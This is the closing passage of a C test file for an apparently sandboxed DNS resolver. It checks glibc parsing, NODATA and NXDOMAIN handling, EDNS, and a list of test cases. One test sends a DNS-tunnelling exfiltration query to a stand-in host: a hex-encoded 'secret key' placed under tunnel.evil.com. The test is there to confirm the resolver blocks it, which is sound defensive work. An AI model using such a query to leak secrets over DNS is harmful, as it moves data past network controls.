			if (ns_parserr(&msg, ns_s_an, 0, &rr) == 0) {
				CHECK(ns_rr_type(rr) == ns_t_a && ns_rr_class(rr) == ns_c_in);
				CHECK(ns_rr_ttl(rr) == 60 && ns_rr_rdlen(rr) == 4);
				CHECK(strcmp(ns_rr_name(rr), "api.example.com") == 0);
				uint32_t be;
				memcpy(&be, ns_rr_rdata(rr), 4);
				CHECK_MSG(ntohl(be) == SYNTH(1), "edns %d: %08x", edns, ntohl(be));
			} else {
				CHECK_MSG(0, "glibc cannot parse the answer record");
			}
		} else {
			CHECK_MSG(0, "glibc cannot parse the answer");
		}
	}
	/* NODATA and NXDOMAIN as glibc reports them. */
	CHECK(glibc_query(&st, "api.example.com", ns_t_aaaa, buf, sizeof(buf)) < 0);
	CHECK_MSG(st.res_h_errno == NO_DATA, "AAAA: h_errno %d", st.res_h_errno);
	CHECK(glibc_query(&st, "evil.com", ns_t_a, buf, sizeof(buf)) < 0);
	CHECK_MSG(st.res_h_errno == HOST_NOT_FOUND, "evil.com: h_errno %d", st.res_h_errno);
	CHECK(glibc_query(&st,
			  "6d7920736563726574206b6579206973203132333435363738393061626364."
			  "tunnel.evil.com",
			  ns_t_txt, buf, sizeof(buf)) < 0);
	CHECK(st.res_h_errno == HOST_NOT_FOUND);
	res_nclose(&st);

	atomic_store(&srv.stop, 1);
	pthread_join(th, NULL);
	CHECK_MSG(srv.served >= 5, "served %d", srv.served);
	close(srv.fd);
	petri__net_names_free(srv.t);
}

static const struct petri_test_case cases[] = {
	PETRI_TEST_CASE(a_allowed),
	PETRI_TEST_CASE(same_name_same_address),
	PETRI_TEST_CASE(other_types_nodata),
	PETRI_TEST_CASE(not_allowed_nxdomain),
	PETRI_TEST_CASE(exfiltration_nxdomain),
	PETRI_TEST_CASE(bad_names_nxdomain),
	PETRI_TEST_CASE(chaos_refused),
	PETRI_TEST_CASE(two_questions_formerr),
	PETRI_TEST_CASE(opcode_notimp),
	PETRI_TEST_CASE(no_answer),
	PETRI_TEST_CASE(localhost),
	PETRI_TEST_CASE(edns_query),
	PETRI_TEST_CASE(truncation),
	PETRI_TEST_CASE(names_both_ways),
	PETRI_TEST_CASE(names_exhausted),
	PETRI_TEST_CASE(bad_arguments),
	PETRI_TEST_CASE(glibc_resolver),
	{NULL, NULL},
};

int main(int argc, char **argv)
{
	return petri_test_main(argc, argv, cases);
}
